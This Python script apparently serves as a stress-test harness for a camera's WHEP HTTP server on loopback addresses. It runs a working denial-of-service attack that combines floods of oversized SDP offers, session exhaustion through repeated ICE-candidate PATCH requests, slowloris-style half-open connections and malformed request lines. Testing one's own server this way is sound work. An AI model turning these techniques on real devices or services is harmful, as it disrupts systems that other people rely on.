"""Attacks a camera's HTTP side in every way that once worked, for as long as it runs; prints what it did.

usage: attacker.py URL SECONDS OFFER-FILE. It gives way to everybody else on the machine: a true attacker
has one of their own.
"""

import asyncio
import json
import os
import resource
import socket
import sys
from collections import Counter
from pathlib import Path
from urllib.parse import urlsplit

import aiohttp

HALF_OPEN = 1100
ADDRESSES = ("127.0.0.1", "127.0.0.2", "127.0.0.3", "127.0.0.4", "127.0.0.5")
"""The watching browser is at the first."""

SDP = {"Content-Type": "application/sdp"}
HALVES = (
    b"",
    b"GET / HTT",
    b"POST /whep/redacted HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/sdp\r\n"
    b"Content-Length: 900\r\n\r\n",
)
RUBBISH = (
    b"\0\1\2\3" * 40 + b"\r\n\r\n",
    b"GET / HTTP/9.9\r\n\r\n",
    b"GET /" + b"a" * 20_000 + b" HTTP/1.1\r\n\r\n",
)
FLOOD = "".join(f"a=rtpmap:{n % 128} H264/90000\r\n" for n in range(1300)) + "a=rtcp-fb:* nack pli\r\n" * 1100


class Attack:
    """One attack and its account."""

    def __init__(self, url: str, offer: str) -> None:
        self.url, self.offer = url, offer
        self.done: Counter[str] = Counter()
        at = urlsplit(url)
        self._host, self._port = at.hostname or "", at.port or 80

    def session(self, address: str) -> aiohttp.ClientSession:
        connector = aiohttp.TCPConnector(local_addr=(address, 0))
        return aiohttp.ClientSession(connector=connector, timeout=aiohttp.ClientTimeout(total=5))

    async def post(self, http: aiohttp.ClientSession, offer: str) -> str | None:
        try:
            async with http.post(f"{self.url}/whep/redacted", data=offer, headers=SDP) as answer:
                self.done[f"POST {answer.status}"] += 1
                return answer.headers.get("Location")
        except (aiohttp.ClientError, TimeoutError):
            self.done["POST failed"] += 1
            return None

    async def floods(self) -> None:
        """Post offers of 64 KiB that are expensive to read."""
        async with self.session(ADDRESSES[1]) as http:
            while True:
                await self.post(http, (self.offer + FLOOD)[:65_000])
                await asyncio.sleep(0.01)

    async def sitters(self, address: str) -> None:
        """Open sessions and connect none, with as many candidates as are taken and more by PATCH."""
        kind = {"Content-Type": "application/trickle-ice-sdpfrag"}
        lines = "".join(f"a=candidate:{n} 1 udp 1 {address} {20_000 + n} typ host\r\n" for n in range(32))
        fragment = "a=mid:0\r\n" + lines
        async with self.session(address) as http:
            while True:
                if location := await self.post(http, self.offer):
                    for _ in range(10):
                        try:
                            async with http.patch(self.url + location, data=fragment, headers=kind) as answer:
                                self.done[f"PATCH {answer.status}"] += 1
                        except (aiohttp.ClientError, TimeoutError):
                            self.done["PATCH failed"] += 1
                await asyncio.sleep(0.05)

    async def half_open(self, address: str, count: int) -> None:
        """Keep so many connections in the middle of a request."""
        held: list[socket.socket] = []
        loop = asyncio.get_running_loop()
        while True:
            one = socket.socket()
            one.setblocking(False)
            one.bind((address, 0))
            try:
                async with asyncio.timeout(1):
                    await loop.sock_connect(one, (self._host, self._port))
                    await loop.sock_sendall(one, HALVES[len(held) % len(HALVES)])
                self.done["half-open"] += 1
            except (OSError, TimeoutError):
                self.done["half-open refused"] += 1
            held.append(one)
            if len(held) > count:
                held.pop(0).close()
            await asyncio.sleep(0.002)

    async def rubbish(self) -> None:
        """Send what is no request."""
        while True:
            for text in RUBBISH:
                try:
                    reader, writer = await asyncio.open_connection(
                        self._host, self._port, local_addr=(ADDRESSES[2], 0)
                    )
                    writer.write(text)
                    await asyncio.wait_for(reader.read(), 2)
                    writer.close()
                    self.done["rubbish"] += 1
                except (OSError, TimeoutError):
                    self.done["rubbish refused"] += 1
                await asyncio.sleep(0.02)

    async def run(self, seconds: float) -> None:
        """Do all of it at the same time."""
        parts = [self.floods(), self.rubbish()]
        parts += [self.sitters(address) for address in ADDRESSES[1:]]
        parts += [self.half_open(address, HALF_OPEN // 2) for address in ADDRESSES[:2]]
        tasks = [asyncio.create_task(part) for part in parts]
        await asyncio.wait(tasks, timeout=seconds, return_when=asyncio.FIRST_EXCEPTION)
        failed = [task.exception() for task in tasks if task.done()]
        for task in tasks:
            task.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)
        assert not failed, failed


def main() -> None:
    os.nice(19)
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 8192), hard))
    attack = Attack(sys.argv[1], Path(sys.argv[3]).read_bytes().decode())
    asyncio.run(attack.run(float(sys.argv[2])))
    sys.stdout.write(json.dumps(attack.done) + "\n")


if __name__ == "__main__":
    main()
